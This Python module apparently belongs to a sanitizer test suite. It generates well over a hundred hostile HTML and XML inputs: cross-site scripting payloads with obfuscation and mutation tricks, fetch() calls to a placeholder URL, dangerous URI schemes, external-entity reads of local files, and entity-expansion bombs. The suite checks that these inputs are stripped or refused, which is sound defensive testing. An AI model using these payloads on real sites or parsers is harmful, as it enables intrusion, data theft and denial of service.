"""Web pages and XML that run, load, send, expand or mean something else to another parser."""

import base64
from collections.abc import Callable, Iterator

from .common import MARKER, URL, VISIBLE, Attack

_CODE = f"fetch('{URL}')"
_TAB = "&#9;"


def page(inside: str, *, head: str = "") -> bytes:
    return f"<!doctype html><html><head><meta charset='utf-8'>{head}</head><body><p>{VISIBLE}</p>{inside}</body></html>".encode()


_BODIES = {
    "mail with a further field": f"<a href='mailto:a@example.jp?subject=a%0D%0ABcc:{MARKER}'>x</a>",
    "mail to a further field": f"<a href='mailto:a@example.jp%0ABcc:{MARKER}'>x</a>",
    "script": f"<script>{_CODE}</script>",
    "script in capitals": f"<SCRIPT>{_CODE}</SCRIPT>",
    "script with a slash": f"<script/x>{_CODE}</script>",
    "script not closed": f"<script>{_CODE}",
    "script in a script": f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    "script as module": f"<script type=module>import '{URL}'</script>",
    "script data": f"<script type='application/json'>{MARKER}</script>",
    "image error": f"<img src=x onerror=\"{_CODE}\">",
    "image error with slashes": f"<img/src=x/onerror=\"{_CODE}\">",
    "image error with line feeds": f"<img src=x\nonerror\n=\n\"{_CODE}\">",
    "image error in mixed case": f"<iMg SrC=x OnErRoR=\"{_CODE}\">",
    "drawing load": f"<svg/onload=\"{_CODE}\">",
    "drawing script": f"<svg><script>{_CODE}</script></svg>",
    "drawing animation": f"<svg><a><animate attributeName=href values='javascript:{MARKER}'/><text>x</text></a></svg>",
    "drawing foreign": f"<svg><foreignObject><body onload='{MARKER}'></foreignObject></svg>",
    "body load": f"<body onload=\"{_CODE}\">",
    "details toggle": f"<details open ontoggle=\"{_CODE}\">x</details>",
    "marquee": f"<marquee onstart=\"{_CODE}\">x</marquee>",
    "pointer": f"<p onpointerrawupdate=\"{_CODE}\">x</p>",
    "animation end": f"<p style='animation:x' onanimationend=\"{_CODE}\">x</p>",
    "focus": f"<input autofocus onfocus=\"{_CODE}\">",
    "frame": f"<iframe src='{URL}'></iframe>",
    "frame with a page": f"<iframe srcdoc='&lt;script&gt;{MARKER}&lt;/script&gt;'></iframe>",
    "frame set": f"<frameset onload='{MARKER}'><frame src='{URL}'></frameset>",
    "portal": f"<portal src='{URL}'></portal>",
    "fenced frame": f"<fencedframe src='{URL}'></fencedframe>",
    "object": f"<object data='{URL}' type='text/html'></object>",
    "applet": f"<applet code='{MARKER}' archive='{URL}'></applet>",
    "embed": f"<embed src='{URL}'>",
    "form": f"<form action='{URL}'><input name=password><button formaction='{URL}2'>x</button></form>",
    "button of a form": f"<button formaction='javascript:{MARKER}'>x</button>",
    "picture button": f"<input type=image src='{URL}' formaction='{URL}'>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={URL}'>",
    "refresh before what may stay": f"<meta http-equiv='refresh' content='0;url={URL}' http-equiv='Content-Security-Policy' content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\">",
    "cookie": f"<meta http-equiv='set-cookie' content='{MARKER}=1'>",
    "base": f"<base href='{URL}/'>",
    "style sheet": f"<link rel=stylesheet href='{URL}'>",
    "preload": f"<link rel=preload as=script href='{URL}'><link rel=dns-prefetch href='//{MARKER}'>",
    "html import": f"<link rel=import href='{URL}'>",
    "manifest": f"<link rel=manifest href='{URL}'>",
    "style import": f"<style>@import url({URL});</style>",
    "style background": f"<p style=\"background:url('{URL}')\">x</p>",
    "style background escaped": f"<p style=\"background:\\75rl('{URL}')\">x</p>",
    "style background with comments": f"<p style=\"background:u/**/rl('{URL}')\">x</p>",
    "style expression": f"<p style=\"width:expression({_CODE})\">x</p>",
    "style behaviour": f"<p style=\"behavior:url({URL})\">x</p>",
    "style binding": f"<p style=\"-moz-binding:url({URL}#x)\">x</p>",
    "style variable": f"<p style=\"--x:url({URL});color:red\">x</p>",
    "style over all": f"<p style=\"position:fixed;top:0;content:'{MARKER}'\">x</p>",
    "script link": f"<a href=\"javascript:{_CODE}\">x</a>",
    "script link in mixed case": f"<a href=\"JaVaScRiPt:{MARKER}\">x</a>",
    "script link with a tab": f"<a href=\"java{_TAB}script:{MARKER}\">x</a>",
    "script link with a line feed": f"<a href=\"java\nscript:{MARKER}\">x</a>",
    "script link with entities": f"<a href=\"&#106;&#x61;vascript&colon;{MARKER}\">x</a>",
    "script link after a control": f"<a href=\"&#1;javascript:{MARKER}\">x</a>",
    "script link after a blank": f"<a href=\" javascript:{MARKER}\">x</a>",
    "visual basic link": f"<a href=\"vbscript:{MARKER}\">x</a>",
    "data link": f"<a href=\"data:text/html;base64,{base64.b64encode(MARKER.encode()).decode()}\">x</a>",
    "file link": f"<a href=\"file:///{MARKER}\">x</a>",
    "network link": f"<a href=\"\\\\127.0.0.1\\{MARKER}\">x</a>",
    "link without a scheme": f"<a href=\"//127.0.0.1/{MARKER}\">x</a>",
    "diagnostics link": f"<a href=\"ms-msdt:/id {MARKER}\">x</a>",
    "search link": f"<a href=\"search-ms:query={MARKER}\">x</a>",
    "office link": f"<a href=\"ms-excel:ofv|u|{URL}\">x</a>",
    "installer link": f"<a href=\"ms-appinstaller:?source={URL}\">x</a>",
    "view-source link": f"<a href=\"view-source:{URL}\">x</a>",
    "blob link": f"<a href=\"blob:{URL}\">x</a>",
    "ping": f"<a href='https://example.jp/' ping='{URL}'>x</a>",
    "download": f"<a href='https://example.jp/' download='{MARKER}.exe'>x</a>",
    "target": f"<a href='https://example.jp/' target='{MARKER}'>x</a>",
    "tracking picture": f"<img src='{URL}' width=1>",
    "picture set": f"<img srcset='{URL} 2x'><picture><source srcset='{URL}'></picture>",
    "lazy picture": f"<img data-src='{URL}' lowsrc='{URL}' dynsrc='{URL}'>",
    "map": f"<img usemap='#{MARKER}'><map name='{MARKER}'><area href='javascript:{MARKER}'></map>",
    "picture of this machine": f"<img src='file:///{MARKER}'>",
    "picture that is a drawing": "<img src=\"data:image/svg+xml;base64," + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARKER}'/>".encode()).decode() + "\">",
    "picture that is a page": f"<img src=\"data:text/html,{MARKER}\">",
    "picture that is rubbish": f"<img src=\"data:image/png;base64,{base64.b64encode(MARKER.encode()).decode()}\">",
    "video": f"<video poster='{URL}' src='{URL}'><track src='{URL}'></video>",
    "background of a table": f"<table background='{URL}'><tr><td background='{URL}'>x</td></tr></table>",
    "comment": f"<!-- {MARKER} -->",
    "conditional comment": f"<!--[if IE]><script>{MARKER}</script><![endif]-->",
    "downlevel comment": f"<![if !IE]><script>{MARKER}</script><![endif]>",
    "comment that ends early": f"<!--><img src=x onerror='{MARKER}'>-->",
    "comment that ends oddly": f"<!--x--!><img src=x onerror='{MARKER}'>-->",
    "noscript mutation": f"<noscript><p title=\"</noscript><img src=x onerror='{MARKER}'>\"></noscript>",
    "formula mutation": f"<math><mtext><table><mglyph><style><img src=x onerror='{MARKER}'></style></mglyph></table></mtext></math>",
    "formula action": f"<math><maction actiontype='statusline' xlink:href='javascript:{MARKER}'>x</maction></math>",
    "textarea mutation": f"<textarea><img src=x onerror='{MARKER}'></textarea>",
    "title that ends in quotes": f"<title><a title=\"</title><img src='{URL}' onerror='{MARKER}'>\">x</a></title>",
    "title mutation": f"<title><img src=x onerror='{MARKER}'></title>",
    "plain text": f"<xmp><script>{MARKER}</script></xmp>",
    "template": f"<template><script>{MARKER}</script></template>",
    "shadow template": f"<div><template shadowrootmode=open><script>{MARKER}</script></template></div>",
    "data island": f"<xml id=x><a onerror='{MARKER}'/></xml>",
    "instruction": f"<?php {MARKER} ?>",
    "cdata": f"<![CDATA[<script>{MARKER}</script>]]>",
    "custom element": f"<x-evil is='{MARKER}' data-x='{URL}'></x-evil>",
    "slot": f"<slot name='{MARKER}'></slot>",
    "popover": f"<div popover id='{MARKER}' onbeforetoggle='{MARKER}'>x</div>",
    "clobbering": f"<a id='{MARKER}' name='{MARKER}' href='https://example.jp/'>x</a>",
    "vector markup": f"<v:shape xmlns:v='urn:schemas-microsoft-com:vml' href='{URL}'/>",
    "smil": f"<t:set xmlns:t='urn:schemas-microsoft-com:time' attributeName='innerHTML' to='{MARKER}'/>",
    "attribute without quotes": f"<p title=x onclick={MARKER}>x</p>",
    "attribute twice": f"<p title=x title='{MARKER}' onclick='{MARKER}'>x</p>",
    "attribute with a back quote": f"<img src=`{URL}` onerror=`{MARKER}`>",
    "sound": f"<bgsound src='{URL}'>",
    "layer": f"<layer src='{URL}'></layer><ilayer src='{URL}'></ilayer>",
    "key generator": f"<keygen challenge='{MARKER}'>",
    "list": f"<input list=x><datalist id=x><option value='{MARKER}'></datalist>",
    "image set in a style": f"<p style=\"background-color:red;background-image:image-set('{URL}' 1x)\">x</p>",
    "source in a style": f"<p style=\"color:red;width:src('{URL}')\">x</p>",
    "address of a title in a style": f"<p style=\"width:attr(data-x);border:env({MARKER})\">x</p>",
    "wide letters in a style": f"<p style=\"width:ｅｘｐｒｅｓｓｉｏｎ({MARKER})\">x</p>",
    "braces in a style": f"<p style=\"color:red}}*{{background:url({URL})\">x</p>",
    "quotes in a style": f"<p style=\"font-family:'a&#39;;background:url({URL})'\">x</p>",
    "forms in a formula": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{MARKER}'>",
    "style in a drawing": f"<svg></p><style><a id=\"</style><img src=1 onerror='{MARKER}'>\">",
    "page in a formula": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror='{MARKER}'></style></annotation-xml></math>",
    "text area in a drawing in a formula": f"<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={MARKER} src=1>'>",
    "frames of old in a page": f"<noembed><img title='</noembed><img src=x onerror={MARKER}>'></noembed><noframes><p title='</noframes><img src=x onerror={MARKER}>'></noframes>",
    "template in a list": f"<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror={MARKER}>\">",
    "table in a drawing": f"<table><td><svg><table><desc><form><table></form><form></table></form></svg></table></table><img src=x onerror='{MARKER}'>",
    "font in a drawing": f"<svg><font color=red><img src=x onerror={MARKER}></font></svg>",
    "cdata in a drawing": f"<svg><![CDATA[><img src=x onerror={MARKER}>]]></svg>",
    "filter that loads": f"<svg width=10 height=10><filter id=f><feImage href='{URL}'/></filter><rect filter='url(#f)' width=5 height=5 /></svg>",
    "set in a drawing": f"<svg width=10 height=10><a><set attributeName='href' to='javascript:{MARKER}'/><rect width=5 height=5 /></a></svg>",
    "picture set of a preload": f"<link rel=preload as=image imagesrcset='{URL} 1x'>",
    "reported attribution": f"<img attributionsrc='{URL}' src=x><a attributionsrc='{URL}' href='https://example.jp/'>x</a>",
    "sources of quotations": f"<q cite='{URL}'>x</q><blockquote cite='{URL}'>y</blockquote><del cite='{URL}'>z</del>",
    "link with back strokes": f"<a href='http:\\\\127.0.0.1\\{MARKER}'>x</a>",
    "link without slashes": f"<a href='https:127.0.0.1/{MARKER}'>x</a>",
    "link into an archive": f"<a href='jar:{URL}!/x'>x</a>",
    "script link after a long entity": f"<a href='&#0000106avascript:{MARKER}'>x</a>",
    "dangling picture": f"<img src='{URL}?",
    "instruction that imports": f"<?import namespace='t' implementation='#default#time2'><t:set attributeName=innerHTML to='{MARKER}'>",
    "component": f"<public:attach event=ondocumentready onevent={MARKER} />",
    "search field of old": f"<isindex action='javascript:{MARKER}' type=image>",
    "scriptlet": f"<object type='text/x-scriptlet' data='{URL}'><param name=movie value='{URL}'></object>",
    "stray element of a drawing": f"<text onclick='{MARKER}'><line href='javascript:{MARKER}'>x</line></text>",
    "dialog": f"<dialog open><form method=dialog action='{URL}'></form></dialog>",
}  # fmt: skip

# Markup that turns out to be words: they may be read, not run.
_WORDS = {"script in a script", "title mutation", "plain text", "cdata"}
_HEADS = {
    "speculation rules": f"<script type='speculationrules'>{{\"prefetch\": [{{\"urls\": [\"{URL}\"]}}]}}</script>",
    "import map": f"<script type='importmap'>{{\"imports\": {{\"a\": \"{URL}\"}}}}</script>",
    "policy of its own": f"<meta http-equiv='Content-Security-Policy' content=\"script-src * 'unsafe-inline'; report-uri {URL}\">",
    "icon": f"<link rel=icon href='{URL}'>",
    "theme": f"<meta name='{MARKER}' content='{URL}'>",
    "title with markup": f"<title>x&lt;/title&gt;&lt;script&gt;{MARKER}</title>",
}  # fmt: skip

_PAGES: dict[str, Callable[[], bytes]] = {
    "utf-16": lambda: page(f"<script>{_CODE}</script>").decode().replace("utf-8", "utf-16").encode("utf-16"),
    "utf-8 with a mark": lambda: b"\xef\xbb\xbf" + page(f"<script>{_CODE}</script>"),
    "code page 932": lambda: page(f"<script>{_CODE}</script>").decode().replace("utf-8", "shift_jis").encode("cp932"),
    "iso-2022-jp": lambda: page(f"<script>{_CODE}</script>").decode().replace("utf-8", "iso-2022-jp").encode("iso2022_jp"),
    "xhtml": lambda: f"<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{VISIBLE}</p><script>{_CODE}</script></body></html>".encode(),
    "saved mail page": lambda: b"MIME-Version: 1.0\r\n\r\n" + page(f"<script>{_CODE}</script>"),
}  # fmt: skip

# -- XML --------------------------------------------------------------------------------------------------------------


def xml(inside: str = "", *, before: str = "", attributes: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<report {attributes}><p>{VISIBLE}</p>{inside}</report>'.encode()


_XML: dict[str, Callable[[], bytes]] = {
    "inclusion of a draft": lambda: xml(f"<i:include xmlns:i='http://www.w3.org/2003/XInclude' href='{URL}'/>"),
    "formula that leads to a file": lambda: xml(f"<m:mi xmlns:m='http://www.w3.org/1998/Math/MathML' href='file:///{MARKER}'>x</m:mi>"),
    "style sheet": lambda: xml(before=f"<?xml-stylesheet type='text/xsl' href='{URL}'?>"),
    "program of office": lambda: xml(before=f"<?mso-application progid='{MARKER}'?>"),
    "php": lambda: xml(f"<?php {MARKER} ?>"),
    "comment": lambda: xml(f"<!-- {MARKER} -->"),
    "comment before": lambda: xml(before=f"<!-- {MARKER} -->"),
    "comment behind": lambda: xml() + f"<!-- {MARKER} -->".encode(),
    "script of xhtml": lambda: xml(f"<h:script xmlns:h='http://www.w3.org/1999/xhtml'>{_CODE}</h:script>"),
    "script of a drawing": lambda: xml(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARKER}'/>"),
    "inclusion": lambda: xml(f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{URL}' parse='text'/>"),
    "transformation": lambda: xml(f"<xsl:include xmlns:xsl='http://www.w3.org/1999/XSL/Transform' href='{URL}'/>"),
    "script of a transformation": lambda: xml(f"<m:script xmlns:m='urn:schemas-microsoft-com:xslt' language='C#'>{MARKER}</m:script>"),
    "schema location": lambda: xml(attributes=f"xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a {URL}'"),
    "schema without a namespace": lambda: xml(attributes=f"xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='{URL}'"),
    "base": lambda: xml(attributes=f"xml:base='{URL}'"),
    "scriptlet": lambda: f"<scriptlet><registration progid='x'/><p>{VISIBLE}</p><script language='JScript'>{MARKER}</script></scriptlet>".encode(),
    "build project": lambda: xml(f"<Project xmlns='http://schemas.microsoft.com/developer/msbuild/2003'><Exec Command='{MARKER}'/></Project>"),
    "window": lambda: xml(f"<Window xmlns='http://schemas.microsoft.com/winfx/2006/xaml/presentation' Tag='{MARKER}'/>"),
    "simple link": lambda: xml(attributes=f"xmlns:l='http://www.w3.org/1999/xlink' l:type='simple' l:href='javascript:{MARKER}'"),
    "document type from elsewhere": lambda: xml(before=f"<!DOCTYPE report SYSTEM '{URL}.dtd'>"),
    "public document type": lambda: xml(before=f"<!DOCTYPE report PUBLIC '{MARKER}' '{URL}.dtd'>"),
    "empty document type": lambda: xml(before="<!DOCTYPE report>"),
    "document type that declares nothing": lambda: xml(before=f"<!DOCTYPE report PUBLIC '{MARKER}' '{URL}' []>"),
    "document type with rules": lambda: xml(before=f"<!DOCTYPE report [<!ELEMENT {MARKER} ANY><!ATTLIST report onload CDATA 'javascript:{MARKER}'><!-- {MARKER} -->]>"),
    "attribute of a page": lambda: xml(f"<a xmlns:h='http://www.w3.org/1999/xhtml' h:onclick='{MARKER}'>x</a>"),
    "formula that leads": lambda: xml(f"<m:math xmlns:m='http://www.w3.org/1998/Math/MathML' href='javascript:{MARKER}'><m:mi>x</m:mi></m:math>"),
    "script in any attribute": lambda: xml(f"<item enclosure=' java&#9;script:{MARKER}' other='data:text/html,{MARKER}'/>"),
    "link that follows itself": lambda: xml(attributes=f"xmlns:l='http://www.w3.org/1999/xlink' l:type='simple' l:href='https://example.jp/' l:show='embed' l:actuate='onLoad' l:role='javascript:{MARKER}'"),
    "script far behind blanks": lambda: xml(attributes=f"xmlns:l='http://www.w3.org/1999/xlink' l:href='{' ' * 300}javascript:{MARKER}'"),
    "transformation of the first drafts": lambda: xml(f"<x:eval xmlns:x='http://www.w3.org/TR/WD-xsl'>{MARKER}</x:eval>"),
    "role of a link": lambda: xml(attributes=f"xmlns:l='http://www.w3.org/1999/xlink' l:arcrole='vbscript:{MARKER}'"),
    "binding": lambda: xml(f"<b:bindings xmlns:b='http://www.mozilla.org/xbl'><b:constructor>{MARKER}</b:constructor></b:bindings>"),
    "class of a program": lambda: xml(f"<s:Process xmlns:s='clr-namespace:System.Diagnostics;assembly=system' X='{MARKER}'/>"),
    "form that sends": lambda: xml(f"<f:submission xmlns:f='http://www.w3.org/2002/xforms' resource='{URL}'/>"),
    "document of a form": lambda: xml(f"<x:xdp xmlns:x='http://ns.adobe.com/xdp/'><pdf>{MARKER}</pdf></x:xdp>"),
    "event of an open document": lambda: xml(f"<s:event-listener xmlns:s='urn:oasis:names:tc:opendocument:xmlns:script:1.0' s:macro='{MARKER}'/>"),
    "form program": lambda: xml(before=f"<?mso-infoPathSolution href='{URL}'?>"),
    "code page 932 by another name": lambda: f"<?xml version='1.0' encoding='Windows-31J'?><r><p>{VISIBLE}①</p><?php {MARKER} ?></r>".encode("cp932"),
    "utf-16": lambda: xml(f"<?php {MARKER} ?>").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
}  # fmt: skip


def _laughs(levels: int) -> str:
    rows = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, levels))
    return f"<!DOCTYPE report [<!ENTITY e0 '{MARKER}'>{rows}]>"


# Whole documents of programs: only their words come out, as plain text.
_XML_TEXT: dict[str, Callable[[], bytes]] = {
    "word document in one file": lambda: f"<pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'><pkg:part pkg:name='/word/vbaProject.bin'><pkg:binaryData>{MARKER}</pkg:binaryData></pkg:part></pkg:package>".encode(),
    "word 2003 document": lambda: f"<w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:docSuppData><w:binData w:name='editdata.mso'>{MARKER}</w:binData></w:docSuppData></w:wordDocument>".encode(),
    "excel 2003 workbook": lambda: f"<Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Worksheet><Table><Row><Cell Formula='{MARKER}'/></Row></Table></Worksheet></Workbook>".encode(),
    "transformation alone": lambda: f"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'>{MARKER}</xsl:stylesheet>".encode(),
}  # fmt: skip

_XML_REFUSED: dict[str, Callable[[], bytes]] = {
    "entity of this machine": lambda: xml("&e;", before=f"<!DOCTYPE report [<!ENTITY e SYSTEM 'file:///{MARKER}'>]>"),
    "entity from elsewhere": lambda: xml("&e;", before=f"<!DOCTYPE report [<!ENTITY e SYSTEM '{URL}'>]>"),
    "public entity": lambda: xml("&e;", before=f"<!DOCTYPE report [<!ENTITY e PUBLIC 'a' '{URL}'>]>"),
    "parameter entity": lambda: xml(before=f"<!DOCTYPE report [<!ENTITY % e SYSTEM '{URL}'> %e;]>"),
    "billion laughs": lambda: xml("&e9;", before=_laughs(10)),
    "quadratic blow-up": lambda: xml("&e;" * 5_000, before=f"<!DOCTYPE report [<!ENTITY e '{MARKER * 2_000}'>]>"),
    "entities in a ring": lambda: xml("&a;", before="<!DOCTYPE report [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"),
    "entity in utf-16": lambda: xml("&e;", before=f"<!DOCTYPE report [<!ENTITY e SYSTEM '{URL}'>]>").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "entity behind rules": lambda: xml("&e;", before=f"<!DOCTYPE report [<!ELEMENT report ANY><!ENTITY e SYSTEM '{URL}'>]>"),
    "entity in a rule": lambda: xml(before=f"<!DOCTYPE report [<!ENTITY e '{MARKER}'><!ATTLIST report a CDATA '&e;'>]>"),
    "parameter entity among rules": lambda: xml(before="<!DOCTYPE report [<!ELEMENT report ANY> %e; <!ATTLIST report a CDATA 'x'>]>"),
    "document type twice": lambda: xml(before=f"<!DOCTYPE report [<!ELEMENT report ANY>]><!DOCTYPE report [<!ENTITY e '{MARKER}'>]>"),
    "entity in utf-7": lambda: b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a+AD4-",
    "notation": lambda: xml(before=f"<!DOCTYPE report [<!NOTATION n SYSTEM '{URL}'>]>"),
    "too deep": lambda: xml("<a>" * 5_000 + "</a>" * 5_000),
    "not closed": lambda: xml()[:-5],
    "two roots": lambda: xml() + b"<other/>",
}  # fmt: skip


def _attacks() -> Iterator[Attack]:
    gone = (MARKER, "javascript:", "127.0.0.1")
    for name, inside in _BODIES.items():
        marks = ("<script", "<img") if name in _WORDS else gone
        yield Attack(f"html {name}", lambda inside=inside: page(inside), "html", gone=marks)
    for name, head in _HEADS.items():
        marks = ("<script",) if name == "title with markup" else gone
        yield Attack(f"html {name}", lambda head=head: page("", head=head), "html", gone=marks)
    for name, build in _PAGES.items():
        yield Attack(f"html {name}", build, "html", gone=gone)
    yield Attack(
        "html direction in an entity",
        lambda: page("a&#x202e;b&rlm;&#8232;"),
        "html",
        gone=("\u202e", "\u200f", "\u2028"),
    )
    yield Attack(
        "xml direction in a reference",
        lambda: xml("<a b='&#x202e;'>&#x2067;</a>"),
        "xml",
        gone=("\u202e", "\u2067"),
    )
    yield Attack("html zero bytes", lambda: page(f"<scr\0ipt>{MARKER}</scr\0ipt>"), "html", gone=gone)
    for name, build in _XML.items():
        yield Attack(f"xml {name}", build, "xml")
    for name, build in _XML_TEXT.items():
        yield Attack(f"xml {name}", build, "xml", gone=("<",), shows=lambda output: True)
    for name, build in _XML_REFUSED.items():
        yield Attack(f"xml {name}", build, "xml", refused=True)


ATTACKS = tuple(_attacks())
